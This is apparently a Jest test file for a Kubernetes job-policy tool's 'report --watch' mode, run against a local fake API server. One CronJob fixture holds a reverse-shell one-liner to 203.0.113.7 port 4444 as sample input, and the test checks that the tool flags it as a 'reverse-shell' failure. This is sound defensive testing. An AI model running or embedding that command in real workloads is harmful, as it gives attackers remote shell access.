/**
 * `report --watch`: each pass server-side applies the PolicyReports that changed, leaves the
 * others alone, deletes managed reports no longer produced, reports unreadable kinds in the
 * ClusterPolicyReport (and then deletes nothing) and keeps the previous policy when a reload
 * fails. Runs the real client-node against a small API server on 127.0.0.1.
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { KubeConfig } from '@kubernetes/client-node';
import { watchReports, type WatchPass } from '../src/cli/report.js';
import { createEngine, type Engine } from '../src/engine.js';
import { DEFAULT_POLICY } from '../src/policy/schema.js';

type Json = Record<string, unknown>;

interface Write {
  method: string;
  path: string;
  contentType: string | undefined;
  query: URLSearchParams;
  body?: Json;
}

/** Workload lists and the two report resources, as kube-apiserver serves them. */
class ReportApi {
  readonly workloads = new Map<string, Json[]>([
    ['cronjobs', []],
    ['jobs', []],
  ]);
  readonly reports = new Map<string, Json>();
  readonly writes: Write[] = [];
  forbidden = new Set<string>();
  private server: Server | undefined;

  async start(): Promise<void> {
    this.server = createServer((req, res) => {
      this.handle(req, res).catch(() => res.destroy());
    });
    await new Promise<void>((resolve) => this.server?.listen(0, '127.0.0.1', resolve));
  }

  async stop(): Promise<void> {
    await new Promise<void>((resolve) =>
      this.server?.close(() => {
        resolve();
      }),
    );
  }

  kubeConfig(): KubeConfig {
    const port = (this.server?.address() as AddressInfo).port;
    const config = new KubeConfig();
    config.loadFromOptions({
      clusters: [{ name: 'c', server: `http://127.0.0.1:${port}`, skipTLSVerify: true }],
      users: [{ name: 'u', token: 't' }],
      contexts: [{ name: 'c', cluster: 'c', user: 'u' }],
      currentContext: 'c',
    });
    return config;
  }

  private async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const url = new URL(req.url ?? '/', 'http://x');
    const send = (code: number, body: unknown): void => {
      res.writeHead(code, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body));
    };
    const workload = /^\/apis\/batch\/v1\/(cronjobs|jobs)$/.exec(url.pathname);
    if (req.method === 'GET' && workload) {
      const resource = workload[1] ?? '';
      if (this.forbidden.has(resource)) {
        send(403, { kind: 'Status', reason: 'Forbidden', message: `cannot list ${resource}` });
        return;
      }
      send(200, { kind: 'List', metadata: {}, items: this.workloads.get(resource) ?? [] });
      return;
    }
    const report =
      /^\/apis\/wgpolicyk8s\.io\/v1alpha2\/(?:namespaces\/([^/]+)\/)?(policyreports|clusterpolicyreports)(?:\/([^/]+))?$/.exec(
        url.pathname,
      );
    if (!report) {
      send(404, { kind: 'Status', reason: 'NotFound' });
      return;
    }
    const [, namespace, resource, name] = report;
    const key = `${resource}/${namespace ?? ''}/${name ?? ''}`;
    if (req.method === 'GET') {
      const selector = url.searchParams.get('labelSelector');
      const items = [...this.reports.entries()]
        .filter(
          ([k]) =>
            k.startsWith(`${resource}/${namespace ?? ''}`) ||
            (namespace === undefined && k.startsWith(`${resource}/`)),
        )
        .map(([, v]) => v)
        .filter(
          (v) =>
            selector !== 'app.kubernetes.io/managed-by=jobguard' || (v.metadata as Json).labels !== undefined,
        );
      send(200, { kind: 'List', metadata: {}, items });
      return;
    }
    let text = '';
    for await (const chunk of req) text += String(chunk);
    const write: Write = {
      method: req.method ?? '',
      path: url.pathname,
      contentType: req.headers['content-type'],
      query: url.searchParams,
    };
    if (text !== '') write.body = JSON.parse(text) as Json;
    this.writes.push(write);
    if (req.method === 'PATCH' && write.body) {
      this.reports.set(key, write.body);
      send(200, write.body);
      return;
    }
    if (req.method === 'DELETE') {
      if (!this.reports.delete(key)) {
        send(404, { kind: 'Status', reason: 'NotFound' });
        return;
      }
      send(200, { kind: 'Status', status: 'Success' });
      return;
    }
    send(405, {});
  }
}

function cronJob(namespace: string, name: string, script: string): Json {
  return {
    metadata: { name, namespace, uid: `${namespace}-${name}` },
    spec: {
      schedule: '0 3 * * *',
      jobTemplate: {
        spec: {
          template: {
            spec: {
              restartPolicy: 'Never',
              containers: [{ name: 'x', image: 'alpine:3.20', command: ['sh', '-c', script] }],
            },
          },
        },
      },
    },
  };
}

let api: ReportApi;

beforeAll(async () => {
  api = new ReportApi();
  await api.start();
});

afterAll(async () => {
  await api.stop();
});

/** Runs passes until `steps` is used up; `steps[i]` runs after pass i and may change the cluster. */
async function runPasses(
  steps: ((pass: WatchPass) => void)[],
  loadEngine: () => Promise<Engine> = () => Promise.resolve(createEngine(DEFAULT_POLICY)),
): Promise<{ passes: WatchPass[]; logs: Json[] }> {
  const controller = new AbortController();
  const passes: WatchPass[] = [];
  const logs: Json[] = [];
  await watchReports({
    kubeConfig: api.kubeConfig(),
    intervalMs: 5,
    loadEngine,
    signal: controller.signal,
    now: () => new Date('2026-12-01T00:00:00Z'),
    log: (entry) => {
      logs.push(entry);
      if (entry.msg !== 'policy reports reconciled') return;
      const pass = entry as unknown as WatchPass;
      passes.push(pass);
      steps[passes.length - 1]?.(pass);
      if (passes.length >= steps.length) controller.abort();
    },
  });
  return { passes, logs };
}

describe('report --watch', () => {
  it('applies changed reports, skips unchanged ones and deletes stale ones', async () => {
    api.workloads.set('cronjobs', [
      { ...cronJob('team-a', 'backdoor', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1') },
      { ...cronJob('team-b', 'backup', 'echo ok') },
    ]);
    // A report jobguard wrote earlier for a namespace that has no workloads any more.
    api.reports.set('policyreports/old/jobguard', {
      kind: 'PolicyReport',
      metadata: {
        name: 'jobguard',
        namespace: 'old',
        labels: { 'app.kubernetes.io/managed-by': 'jobguard' },
      },
    });
    const { passes } = await runPasses([
      () => {
        api.writes.length = 0;
      },
      () => {
        api.writes.length = 0;
        api.workloads.set('cronjobs', [
          cronJob('team-a', 'backdoor', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'),
        ]);
      },
      () => undefined,
    ]);
    expect(
      passes.map(({ objects, applied, unchanged, deleted, failed }) => ({
        objects,
        applied,
        unchanged,
        deleted,
        failed,
      })),
    ).toEqual([
      { objects: 2, applied: 3, unchanged: 0, deleted: 1, failed: 0 },
      { objects: 2, applied: 0, unchanged: 3, deleted: 0, failed: 0 },
      { objects: 1, applied: 1, unchanged: 1, deleted: 1, failed: 0 },
    ]);
    expect([...api.reports.keys()].sort()).toEqual([
      'clusterpolicyreports//jobguard',
      'policyreports/team-a/jobguard',
    ]);
    // Pass 3 wrote the ClusterPolicyReport (team-b is gone from it) and deleted team-b's report.
    expect(api.writes.map((w) => `${w.method} ${w.path}`)).toEqual([
      'PATCH /apis/wgpolicyk8s.io/v1alpha2/clusterpolicyreports/jobguard',
      'DELETE /apis/wgpolicyk8s.io/v1alpha2/namespaces/team-b/policyreports/jobguard',
    ]);
    const patch = api.writes[0];
    expect(patch?.contentType).toBe('application/apply-patch+yaml');
    expect(patch?.query.get('fieldManager')).toBe('jobguard');
    expect(patch?.query.get('force')).toBe('true');
    const teamA = api.reports.get('policyreports/team-a/jobguard') as Json;
    expect(teamA).toMatchObject({
      apiVersion: 'wgpolicyk8s.io/v1alpha2',
      kind: 'PolicyReport',
      scope: { kind: 'Namespace', name: 'team-a' },
    });
    expect((teamA.results as Json[]).some((r) => r.rule === 'reverse-shell' && r.result === 'fail')).toBe(
      true,
    );
  });

  it('reports an unreadable kind in the ClusterPolicyReport and then deletes nothing', async () => {
    api.reports.clear();
    api.workloads.set('cronjobs', [cronJob('team-a', 'backup', 'echo ok')]);
    api.reports.set('policyreports/team-z/jobguard', {
      kind: 'PolicyReport',
      metadata: {
        name: 'jobguard',
        namespace: 'team-z',
        labels: { 'app.kubernetes.io/managed-by': 'jobguard' },
      },
    });
    api.forbidden.add('jobs');
    try {
      const { passes } = await runPasses([() => undefined]);
      expect(passes[0]?.problems).toEqual([
        { kind: 'Job', message: expect.stringMatching(/HTTP 403 Forbidden/) },
      ]);
      expect(passes[0]?.deleted).toBe(0);
      expect(api.reports.has('policyreports/team-z/jobguard')).toBe(true);
      const cluster = api.reports.get('clusterpolicyreports//jobguard') as { results: Json[] };
      expect(cluster.results).toContainEqual(
        expect.objectContaining({ rule: 'read', result: 'error', properties: { kind: 'Job' } }),
      );
    } finally {
      api.forbidden.clear();
    }
  });

  it('keeps the previous policy when a reload fails, and fails at once without one', async () => {
    let loads = 0;
    const { passes, logs } = await runPasses([() => undefined, () => undefined], () => {
      loads += 1;
      return loads === 1
        ? Promise.resolve(createEngine(DEFAULT_POLICY))
        : Promise.reject(new Error('policy.yaml: broken'));
    });
    expect(passes).toHaveLength(2);
    expect(logs).toContainEqual(expect.objectContaining({ level: 'error', error: 'policy.yaml: broken' }));
    await expect(runPasses([() => undefined], () => Promise.reject(new Error('no policy')))).rejects.toThrow(
      'no policy',
    );
  });
});
